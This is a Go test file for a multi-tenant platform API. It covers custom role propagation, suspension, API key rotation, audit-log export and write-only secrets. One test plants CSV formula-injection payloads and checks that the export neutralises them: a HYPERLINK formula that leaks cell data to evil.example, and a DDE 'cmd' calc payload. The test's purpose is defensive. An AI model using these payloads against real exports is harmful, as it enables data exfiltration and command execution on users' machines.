package platformapi_test

import (
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/engagehq/engage/adapters/httpapi/apitest"
	"github.com/engagehq/engage/adapters/postgres/pgtest"
	"github.com/engagehq/engage/domain/access"
)

func TestCustomRolesApplyOnEveryInstanceAtOnce(t *testing.T) {
	t.Parallel()
	one := apitest.New(t)
	two := apitest.NewWith(t, apitest.Options{Database: one.PG})
	tn := pgtest.NewTenant(t, one.Dir)
	owner := one.Admin(t, tn, "owner@brand.example", access.RoleOwner)

	saved := one.As(t, owner, tn.Slug, http.MethodPut, "/v1/roles/store_manager",
		map[string]any{"description": "Runs a store", "permissions": []string{"tenant:read", "team:read"}})
	require.Equal(t, http.StatusOK, saved.Status, "%s", saved.Raw)
	key := one.As(t, owner, tn.Slug, http.MethodPost, "/v1/api-keys", map[string]any{"name": "store", "role": "store_manager"})
	require.Equal(t, http.StatusCreated, key.Status, "%s", key.Raw)
	secret := key.Body["secret"].(string)

	// The second instance loads the role on first use.
	require.Equal(t, http.StatusOK, two.Do(t, http.MethodGet, "/v1/team/members", secret, nil).Status)
	require.Equal(t, http.StatusForbidden, two.Do(t, http.MethodGet, "/v1/audit-log", secret, nil).Status)

	// Widening the role on the first instance reaches the second through the change notice.
	widened := one.As(t, owner, tn.Slug, http.MethodPut, "/v1/roles/store_manager",
		map[string]any{"permissions": []string{"tenant:read", "team:read", "audit:read"}})
	require.Equal(t, http.StatusOK, widened.Status, "%s", widened.Raw)
	require.Eventually(t, func() bool {
		return two.Do(t, http.MethodGet, "/v1/audit-log", secret, nil).Status == http.StatusOK
	}, 5*time.Second, 20*time.Millisecond)

	// Revoking the key on the first instance stops it on the second at once.
	require.Equal(t, http.StatusOK, one.As(t, owner, tn.Slug, http.MethodDelete, "/v1/api-keys/"+key.Body["id"].(string), nil).Status)
	require.Eventually(t, func() bool {
		return two.Do(t, http.MethodGet, "/v1/tenant", secret, nil).Status == http.StatusUnauthorized
	}, 5*time.Second, 20*time.Millisecond)

	// A role cannot hold more than its author does, nor replace a built-in one.
	admin := one.Admin(t, tn, "admin@brand.example", access.RoleAdmin)
	escalate := one.As(t, admin, tn.Slug, http.MethodPut, "/v1/roles/superpowers", map[string]any{"permissions": []string{"roles:write"}})
	require.Equal(t, http.StatusForbidden, escalate.Status, "admins lack roles:write: %s", escalate.Raw)
	builtin := one.As(t, owner, tn.Slug, http.MethodPut, "/v1/roles/owner", map[string]any{"permissions": []string{"tenant:read"}})
	require.Equal(t, http.StatusUnprocessableEntity, builtin.Status)
	require.Equal(t, []string{"body.name"}, builtin.Fields())
	unknown := one.As(t, owner, tn.Slug, http.MethodPut, "/v1/roles/odd", map[string]any{"permissions": []string{"points:mint"}})
	require.Equal(t, http.StatusUnprocessableEntity, unknown.Status)
	require.Equal(t, []string{"body.permissions"}, unknown.Fields())

	roles := one.As(t, owner, tn.Slug, http.MethodGet, "/v1/roles", nil)
	require.Equal(t, http.StatusOK, roles.Status)
	require.Len(t, roles.Body["items"], len(access.BuiltinRoles)+1)
}

func TestSuspensionReachesEveryInstanceAtOnce(t *testing.T) {
	t.Parallel()
	one := apitest.New(t)
	two := apitest.NewWith(t, apitest.Options{Database: one.PG})
	tn, key := one.TenantWithKey(t, access.RoleAnalyst)
	require.Equal(t, http.StatusOK, two.Do(t, http.MethodGet, "/v1/tenant", key, nil).Status)
	require.Equal(t, http.StatusOK, one.Do(t, http.MethodPost, "/v1/platform/tenants/"+tn.Slug+"/suspend", apitest.PlatformKey, nil).Status)
	require.Eventually(t, func() bool {
		return two.Do(t, http.MethodGet, "/v1/tenant", key, nil).Status == http.StatusForbidden
	}, 5*time.Second, 20*time.Millisecond)
}

func TestAPIKeyRotationOverlapsThenRetiresTheOldKey(t *testing.T) {
	t.Parallel()
	b := apitest.New(t)
	_, owner := b.TenantWithKey(t, access.RoleOwner)
	old := b.Do(t, http.MethodPost, "/v1/api-keys", owner, map[string]any{"name": "pos", "role": "store_staff"})
	require.Equal(t, http.StatusCreated, old.Status)

	rotated := b.Do(t, http.MethodPost, "/v1/api-keys/"+old.Body["id"].(string)+"/rotate", owner, map[string]any{"overlap_seconds": 0})
	require.Equal(t, http.StatusCreated, rotated.Status, "%s", rotated.Raw)
	require.Equal(t, "pos", rotated.Body["name"])
	require.Equal(t, "store_staff", rotated.Body["role"])
	require.Equal(t, http.StatusOK, b.Do(t, http.MethodGet, "/v1/tenant", rotated.Body["secret"].(string), nil).Status)
	require.Equal(t, http.StatusUnauthorized, b.Do(t, http.MethodGet, "/v1/tenant", old.Body["secret"].(string), nil).Status,
		"with no overlap the old key stops at once")
	again := b.Do(t, http.MethodPost, "/v1/api-keys/"+old.Body["id"].(string)+"/rotate", owner, map[string]any{})
	require.Equal(t, http.StatusConflict, again.Status)
	require.Equal(t, "api_key_not_live", again.ProblemCode())

	withOverlap := b.Do(t, http.MethodPost, "/v1/api-keys/"+rotated.Body["id"].(string)+"/rotate", owner, map[string]any{"overlap_seconds": 3600})
	require.Equal(t, http.StatusCreated, withOverlap.Status)
	require.Equal(t, http.StatusOK, b.Do(t, http.MethodGet, "/v1/tenant", rotated.Body["secret"].(string), nil).Status,
		"during the overlap both keys work")
	listed := b.Do(t, http.MethodGet, "/v1/api-keys/"+rotated.Body["id"].(string), owner, nil)
	require.NotEmpty(t, listed.Body["expires_at"])
	require.NotEmpty(t, listed.Body["last_used_at"], "use is recorded")
}

func TestAuditTrailListsFiltersShowsDiffsAndExports(t *testing.T) {
	t.Parallel()
	b := apitest.New(t)
	tn := pgtest.NewTenant(t, b.Dir)
	owner := b.Admin(t, tn, "owner@brand.example", access.RoleOwner)
	created := b.As(t, owner, tn.Slug, http.MethodPost, "/v1/api-keys", map[string]any{"name": "crm", "role": "analyst"})
	require.Equal(t, http.StatusCreated, created.Status)
	id := created.Body["id"].(string)
	require.Equal(t, http.StatusOK, b.As(t, owner, tn.Slug, http.MethodDelete, "/v1/api-keys/"+id, nil).Status)
	renamed := b.As(t, owner, tn.Slug, http.MethodPatch, "/v1/tenant", map[string]any{"name": "Renamed brand"})
	require.Equal(t, http.StatusOK, renamed.Status, "%s", renamed.Raw)

	list := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log?target_type=api_key&target_id="+id, nil)
	require.Equal(t, http.StatusOK, list.Status, "%s", list.Raw)
	items := list.Body["items"].([]any)
	require.Len(t, items, 2)
	revoke := items[0].(map[string]any)
	require.Equal(t, "api_key.revoke", revoke["action"])
	require.Equal(t, "user", revoke["actor_kind"])
	require.Equal(t, "owner@brand.example", revoke["actor_label"])
	require.NotEmpty(t, revoke["request_id"])
	require.Contains(t, revoke["diff"], "revoked_at")

	detail := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log?action=tenant.update", nil)
	update := detail.Body["items"].([]any)[0].(map[string]any)
	require.Equal(t, map[string]any{"before": tn.Name, "after": "Renamed brand"}, update["diff"].(map[string]any)["name"])
	one := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log/1", nil)
	require.Equal(t, http.StatusOK, one.Status)
	require.Equal(t, http.StatusNotFound, b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log/9999", nil).Status)

	export := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log/export.csv?action=api_key.create", nil)
	require.Equal(t, http.StatusOK, export.Status, "%s", export.Raw)
	require.Contains(t, export.Header.Get("Content-Type"), "text/csv")
	rows, err := csv.NewReader(strings.NewReader(string(export.Raw))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 2)
	require.Equal(t, "seq", rows[0][0])
	require.Equal(t, "api_key.create", rows[1][5])

	// Auditors read the trail; a marketer cannot.
	auditor := b.Admin(t, tn, "auditor@brand.example", access.RoleAuditor)
	require.Equal(t, http.StatusOK, b.As(t, auditor, tn.Slug, http.MethodGet, "/v1/audit-log", nil).Status)
	marketer := b.Admin(t, tn, "marketer@brand.example", access.RoleMarketer)
	require.Equal(t, http.StatusForbidden, b.As(t, marketer, tn.Slug, http.MethodGet, "/v1/audit-log", nil).Status)
}

func TestTheAuditExportDefusesFormulasPlantedInAuditedRequests(t *testing.T) {
	t.Parallel()
	b := apitest.New(t)
	tn, owner := b.TenantWithKey(t, access.RoleOwner)
	marketer := b.APIKey(t, tn, access.RoleMarketer)
	// Anyone who can send a request chooses its user agent, and a refused change is audited too.
	const ua = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`
	refused := b.Do(t, http.MethodPost, "/v1/api-keys", marketer, map[string]any{"name": "=cmd|' /C calc'!A0", "role": "owner"}, "User-Agent", ua)
	require.Equal(t, http.StatusForbidden, refused.Status, "%s", refused.Raw)

	export := b.Do(t, http.MethodGet, "/v1/audit-log/export.csv", owner, nil)
	require.Equal(t, http.StatusOK, export.Status, "%s", export.Raw)
	rows, err := csv.NewReader(strings.NewReader(string(export.Raw))).ReadAll()
	require.NoError(t, err)
	agent := slices.Index(rows[0], "user_agent")
	require.NotEqual(t, -1, agent)
	var planted int
	for _, row := range rows[1:] {
		for i, cell := range row {
			require.Falsef(t, strings.ContainsAny(cell[:min(len(cell), 1)], "=+@\t\r"), "column %s starts a formula: %q", rows[0][i], cell)
		}
		if row[agent] == "'"+ua {
			planted++
		}
	}
	require.Equal(t, 1, planted, "the planted user agent is there, defused: %s", export.Raw)
}

func TestSecretsAreWriteOnly(t *testing.T) {
	t.Parallel()
	b := apitest.New(t)
	tn := pgtest.NewTenant(t, b.Dir)
	owner := b.Admin(t, tn, "owner@brand.example", access.RoleOwner)
	const secret = "wx-app-secret-0123456789abcdef"
	put := b.As(t, owner, tn.Slug, http.MethodPut, "/v1/secrets/wechat.mini_program.app_secret", map[string]any{"value": secret})
	require.Equal(t, http.StatusOK, put.Status, "%s", put.Raw)
	require.NotContains(t, string(put.Raw), secret)
	require.Equal(t, "••••cdef", put.Body["hint"])

	list := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/secrets", nil)
	require.Equal(t, http.StatusOK, list.Status)
	require.NotContains(t, string(list.Raw), secret)
	trail := b.As(t, owner, tn.Slug, http.MethodGet, "/v1/audit-log?action=secret.set", nil)
	require.Len(t, trail.Body["items"], 1)
	require.NotContains(t, string(trail.Raw), secret)

	tooLong := b.As(t, owner, tn.Slug, http.MethodPut, "/v1/secrets/smtp.password", map[string]any{"value": strings.Repeat("s", 5000)})
	require.Equal(t, http.StatusUnprocessableEntity, tooLong.Status)
	require.NotContains(t, string(tooLong.Raw), "sssss", "a rejected value is not echoed")

	analyst := b.Admin(t, tn, "analyst@brand.example", access.RoleAnalyst)
	require.Equal(t, http.StatusForbidden, b.As(t, analyst, tn.Slug, http.MethodPut, "/v1/secrets/smtp.password", map[string]any{"value": "x"}).Status)
	require.Equal(t, http.StatusNoContent, b.As(t, owner, tn.Slug, http.MethodDelete, "/v1/secrets/wechat.mini_program.app_secret", nil).Status)
	missing := b.As(t, owner, tn.Slug, http.MethodDelete, "/v1/secrets/wechat.mini_program.app_secret", nil)
	require.Equal(t, http.StatusNotFound, missing.Status)
	require.Equal(t, "secret_not_found", missing.ProblemCode())
}
